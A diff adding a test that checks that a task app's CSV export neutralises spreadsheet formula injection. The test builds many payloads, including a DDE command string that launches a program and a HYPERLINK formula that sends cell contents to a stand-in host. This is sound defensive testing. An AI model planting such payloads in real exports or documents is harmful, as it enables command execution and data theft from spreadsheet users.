@@ -71,6 +71,32 @@ test('tasks come as a table that a spreadsheet reads as text, in whatever letter
   expect(new Set(lines.map((line) => line.length))).toEqual(new Set([head?.length]))
 })
 
+test('a hundred ways to smuggle in a formula are all text, whatever parts the cells', async () => {
+  const family = await aFamily()
+  const heads = ['=', '+', '-', '@', '"=', "'=", ';=', ',=', 'x;=', 'x,@', '\uff1d', '\uff0b', '|', '\u200b=']
+  const bodies = [
+    '1+1',
+    'cmd|"/C calc"!A0',
+    'HYPERLINK("http://e.test?"&A1;"x")',
+    'SUM(1;2)\r\n=2',
+    'IMPORTXML("x","y")',
+    '"";=1',
+    '\t=1',
+    "'",
+  ]
+  const payloads = heads.flatMap((head) => bodies.map((body) => `${head}${body}`))
+  for (const text of payloads) await family.addTask({ title: text, description: `${text}${text}` })
+  const reply = await family.asOwner('GET', '/export', undefined, { accept: 'text/csv' })
+  const text = reply.body.replace(/^\ufeff/, '')
+  const written = Papa.parse<string[]>(text, { newline: '\r\n' }).data
+  // As a spreadsheet parts it that knows of commas, and as one does that begins a new cell at semicolons, tabs and lines.
+  for (const cells of [written.flat(), text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[ "]+/, ''))]) {
+    expect(cells.filter((cell) => /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([])
+  }
+  const bare = (title: string | undefined) => title?.replaceAll("'", '')
+  expect(written.slice(1).map(([title]) => bare(title))).toEqual(payloads.map(bare))
+})
+
 test('names that look like formulas are text as well', async () => {
   const family = await aFamily()
   const avi = await family.supporter({ first_name: '=cmd' })
